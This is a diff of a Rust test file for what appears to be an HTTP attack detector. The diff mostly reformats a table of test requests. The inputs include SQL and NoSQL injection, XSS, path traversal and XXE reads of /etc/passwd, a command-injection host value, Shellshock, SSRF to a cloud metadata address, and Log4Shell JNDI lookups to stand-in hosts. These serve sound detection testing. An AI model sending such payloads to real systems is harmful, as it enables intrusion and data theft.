@@ -42,31 +42,129 @@ fn post(uri: &str, ctype: &str, body: &str) -> String {
 #[test]
 fn flags_each_class_at_its_point() {
     let table: &[(String, &str, &str)] = &[
-        (get("/item?id=1%27%20OR%20%271%27%3D%271", ""), "sqli", "query.id"),
-        (get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ""), "xss", "query.q"),
-        (get("/search?q=%253Csvg%2520onload%253Dalert(1)%253E", ""), "xss", "query.q"),
+        (
+            get("/item?id=1%27%20OR%20%271%27%3D%271", ""),
+            "sqli",
+            "query.id",
+        ),
+        (
+            get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
+            "xss",
+            "query.q",
+        ),
+        (
+            get("/search?q=%253Csvg%2520onload%253Dalert(1)%253E", ""),
+            "xss",
+            "query.q",
+        ),
         (get("/static/../../etc/passwd", ""), "ptrav", "path"),
-        (get("/cgi-bin/status?host=127.0.0.1;cat%20/etc/passwd", ""), "rce", "query.host"),
-        (get("/", "User-Agent: ${jndi:ldap://x.example/a}\r\n"), "log4shell", "header.User-Agent"),
-        (get("/", "X-Api-Version: ${${lower:j}ndi:ldap://x/a}\r\n"), "log4shell", "header.X-Api-Version"),
-        (get("/", "Cookie: pref=%7B%7B7*7%7D%7D\r\n"), "ssti", "cookie.pref"),
-        (post("/api/login", "application/json", r#"{"user":"admin' --","password":"x"}"#), "sqli", "body.json.user"),
-        (post("/api/login", "application/json", r#"{"user":{"$ne":null},"password":{"$ne":null}}"#), "nosql", "body.json_key.user.$ne"),
-        (get("/login?user[$ne]=x", ""), "nosql", "query_key.user[$ne]"),
-        (post("/x", "application/xml", r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>"#), "xxe", "body.xml"),
-        (get("/fetch?url=http://169.254.169.254/latest/meta-data/", ""), "ssrf", "query.url"),
-        (get("/redir?next=%0d%0aSet-Cookie:%20a=1", ""), "crlf", "query.next"),
-        (post("/f", "application/x-www-form-urlencoded", "data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg"), "xss", "body.form.data"),
-        (post("/api", "application/json", r#"{"a":{"b":{"c":"<img src=x onerror=alert(1)>"}}}"#), "xss", "body.json.a.b.c"),
-        (get("/", "User-Agent: () { :; }; /bin/bash -c id\r\n"), "rce", "header.User-Agent"),
-        (get("/", "User-Agent: sqlmap/1.7\r\n"), "scanner", "header.User-Agent"),
+        (
+            get("/cgi-bin/status?host=127.0.0.1;cat%20/etc/passwd", ""),
+            "rce",
+            "query.host",
+        ),
+        (
+            get("/", "User-Agent: ${jndi:ldap://x.example/a}\r\n"),
+            "log4shell",
+            "header.User-Agent",
+        ),
+        (
+            get("/", "X-Api-Version: ${${lower:j}ndi:ldap://x/a}\r\n"),
+            "log4shell",
+            "header.X-Api-Version",
+        ),
+        (
+            get("/", "Cookie: pref=%7B%7B7*7%7D%7D\r\n"),
+            "ssti",
+            "cookie.pref",
+        ),
+        (
+            post(
+                "/api/login",
+                "application/json",
+                r#"{"user":"admin' --","password":"x"}"#,
+            ),
+            "sqli",
+            "body.json.user",
+        ),
+        (
+            post(
+                "/api/login",
+                "application/json",
+                r#"{"user":{"$ne":null},"password":{"$ne":null}}"#,
+            ),
+            "nosql",
+            "body.json_key.user.$ne",
+        ),
+        (
+            get("/login?user[$ne]=x", ""),
+            "nosql",
+            "query_key.user[$ne]",
+        ),
+        (
+            post(
+                "/x",
+                "application/xml",
+                r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>"#,
+            ),
+            "xxe",
+            "body.xml",
+        ),
+        (
+            get("/fetch?url=http://169.254.169.254/latest/meta-data/", ""),
+            "ssrf",
+            "query.url",
+        ),
+        (
+            get("/redir?next=%0d%0aSet-Cookie:%20a=1", ""),
+            "crlf",
+            "query.next",
+        ),
+        (
+            post(
+                "/f",
+                "application/x-www-form-urlencoded",
+                "data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg",
+            ),
+            "xss",
+            "body.form.data",
+        ),
+        (
+            post(
+                "/api",
+                "application/json",
+                r#"{"a":{"b":{"c":"<img src=x onerror=alert(1)>"}}}"#,
+            ),
+            "xss",
+            "body.json.a.b.c",
+        ),
+        (
+            get("/", "User-Agent: () { :; }; /bin/bash -c id\r\n"),
+            "rce",
+            "header.User-Agent",
+        ),
+        (
+            get("/", "User-Agent: sqlmap/1.7\r\n"),
+            "scanner",
+            "header.User-Agent",
+        ),
         (get("/.git/config", ""), "scanner", "path"),
-        (post("/api", "application/json", r#"{"__proto__":{"admin":true}}"#), "proto", "body.json_key.__proto__"),
+        (
+            post(
+                "/api",
+                "application/json",
+                r#"{"__proto__":{"admin":true}}"#,
+            ),
+            "proto",
+            "body.json_key.__proto__",
+        ),
     ];
     for (req, class, point) in table {
         let a = attack(&run(req, OK)).unwrap_or_else(|| panic!("no attack for {req:?}"));
         assert!(
-            a.hits.iter().any(|h| h.class == *class && h.point == *point),
+            a.hits
+                .iter()
+                .any(|h| h.class == *class && h.point == *point),
             "{req:?}: want {class} at {point}, got {:?}",
             a.hits
         );
@@ -103,14 +201,22 @@ fn outcome_from_response() {
         "Content-Type: text/html\r\n",
         "<p>Results for <script>alert(1)</script>",
     );
-    let a = attack(&run(&get("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", ""), &reflected)).unwrap();
+    let a = attack(&run(
+        &get("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
+        &reflected,
+    ))
+    .unwrap();
     assert_eq!(a.outcome.as_deref(), Some("likely_succeeded"));
     let escaped = resp(
         "200 OK",
         "Content-Type: text/html\r\n",
         "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
     );
-    let a = attack(&run(&get("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", ""), &escaped)).unwrap();
+    let a = attack(&run(
+        &get("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
+        &escaped,
+    ))
+    .unwrap();
     assert_eq!(a.outcome.as_deref(), Some("unknown"));
     let sql_err = resp("500 Error", "", "You have an error in your SQL syntax near");
     let a = attack(&run(&get("/i?id=1%27%20or%201=1--", ""), &sql_err)).unwrap();
@@ -127,7 +233,10 @@ fn vulns_once_per_endpoint() {
         "java.lang.IllegalStateException\n\tat com.x.App.run(App.java:1)\n",
     );
     for id in [1, 2, 3] {
-        for t in raw::transactions(get(&format!("/api/users/{id}"), "").as_bytes(), resp.as_bytes()) {
+        for t in raw::transactions(
+            get(&format!("/api/users/{id}"), "").as_bytes(),
+            resp.as_bytes(),
+        ) {
             d.push(&t, &mut |r| out.push(r));
         }
     }
@@ -151,11 +260,18 @@ fn behaviour_brute_force_and_forced_browsing() {
     let denied = resp("401 Unauthorized", "", "");
     let missing = resp("404 Not Found", "", "");
     for i in 0..5 {
-        let req = post("/login", "application/x-www-form-urlencoded", &format!("user=u{i}&pw=x"));
+        let req = post(
+            "/login",
+            "application/x-www-form-urlencoded",
+            &format!("user=u{i}&pw=x"),
+        );
         for t in raw::transactions(req.as_bytes(), denied.as_bytes()) {
             d.push(&t, &mut |r| out.push(r));
         }
-        for t in raw::transactions(get(&format!("/old{i}.bak"), "").as_bytes(), missing.as_bytes()) {
+        for t in raw::transactions(
+            get(&format!("/old{i}.bak"), "").as_bytes(),
+            missing.as_bytes(),
+        ) {
             d.push(&t, &mut |r| out.push(r));
         }
     }
@@ -166,7 +282,10 @@ fn behaviour_brute_force_and_forced_browsing() {
             _ => None,
         })
         .collect();
-    assert_eq!(classes, ["bruteforce.failed_logins", "forced_browsing.many_404"]);
+    assert_eq!(
+        classes,
+        ["bruteforce.failed_logins", "forced_browsing.many_404"]
+    );
 }
 
 #[test]
@@ -200,7 +319,11 @@ fn no_panic_on_hostile_requests() {
         get(&format!("/?q={nested}"), ""),
         post("/", "application/json", &"[".repeat(100_000)),
         post("/", "multipart/form-data; boundary=", "--\r\n\r\n"),
-        post("/", "multipart/form-data; boundary=x", &"--x\r\n".repeat(5000)),
+        post(
+            "/",
+            "multipart/form-data; boundary=x",
+            &"--x\r\n".repeat(5000),
+        ),
         get("/?%ff%fe=%c0", "Cookie: ;;;=;a\r\n"),
     ] {
         let _ = run(&req, OK);
